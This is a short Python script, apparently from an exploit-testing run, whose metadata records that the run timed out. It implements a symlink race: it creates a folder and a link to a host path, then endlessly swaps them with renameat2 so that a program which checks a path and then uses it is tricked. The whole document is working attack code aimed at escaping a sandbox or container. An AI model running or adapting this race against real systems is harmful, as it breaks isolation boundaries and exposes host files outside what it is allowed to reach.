"""Exchanges a folder and a link as fast as it can, to trick who checks and then uses."""
# promise: 2
# ending: timed_out
# wall: 1
import ctypes
import os

HOST_FOLDER = ""  # filled in
libc = ctypes.CDLL(None)
os.mkdir("/w/folder")
os.symlink(HOST_FOLDER, "/w/link")
while True:
    libc.renameat2(-100, b"/w/folder", -100, b"/w/link", 2)
